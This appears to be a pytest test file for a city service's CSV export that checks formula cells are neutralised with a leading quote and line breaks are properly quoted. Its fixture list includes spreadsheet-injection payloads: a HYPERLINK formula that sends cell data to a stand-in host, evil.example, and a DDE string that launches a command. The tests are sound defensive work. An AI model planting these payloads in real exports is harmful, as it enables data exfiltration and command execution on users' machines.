"""CSV that spreadsheets read as data (city/spreadsheet.py), end to end through the export."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from city.spreadsheet import csv_text, safe_cell
from tests.city.conftest import WRITE_TOKEN

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(text: str) -> None:
    """=, +, -, @, tab and CR first: the cell is the text behind a single quote."""
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Trainers", "a=b", "1", "", 3, -3.5, 0.0, None])
def test_other_cells_and_numbers_are_left_alone(value: object) -> None:
    """Text that does not start a formula and numbers the service computed (a negative one
    included) are written as they are."""
    assert safe_cell(value) == value


def test_cr_and_lf_inside_a_cell_are_always_quoted() -> None:
    """A bare CR or an LF in a cell is inside quotes, rows end in CRLF, and reading the text
    back gives the same two rows."""
    text = csv_text([["a\rb", "c\nd", "e"], ["f", "g", "h"]])
    assert text == '"a\rb","c\nd",e\r\nf,g,h\r\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a\rb", "c\nd", "e"],
        ["f", "g", "h"],
    ]


def test_the_learning_city_export_neutralises_hostile_labels(client: httpx.Client) -> None:
    """Indicators whose labels, units and sources an editor set to formulas, or to text with
    a bare CR, come out of /report/learning-city.csv as quoted text, one row each."""
    write = {"Authorization": f"Bearer {WRITE_TOKEN}", "If-None-Match": "*"}
    for i, label in enumerate([*HOSTILE, "split\rhere", "two\nlines"]):
        body = {"label": label, "value": -i, "unit": "@u", "source": "=1", "editor": "e"}
        url = f"/api/v1/learning-city/cultural-centre/indicators/x{i}"
        assert client.put(url, json=body, headers=write).status_code == 200
    text = client.get("/report/learning-city.csv").text
    rows = [
        r
        for r in csv.DictReader(io.StringIO(text, newline=""))
        if r["programme_id"] == "cultural-centre"
    ]
    assert len(rows) == len(HOSTILE) + 2
    by_id = {r["indicator_id"]: r for r in rows}
    for i, label in enumerate(HOSTILE):
        assert by_id[f"x{i}"]["indicator"] == "'" + label
        assert by_id[f"x{i}"]["unit"] == "'@u" and by_id[f"x{i}"]["source"] == "'=1"
    assert by_id["x6"]["indicator"] == "split\rhere" and '"split\rhere"' in text
    assert by_id["x7"]["indicator"] == "two\nlines"
    assert by_id["x1"]["value"] == "-1.0"  # a number stays a number
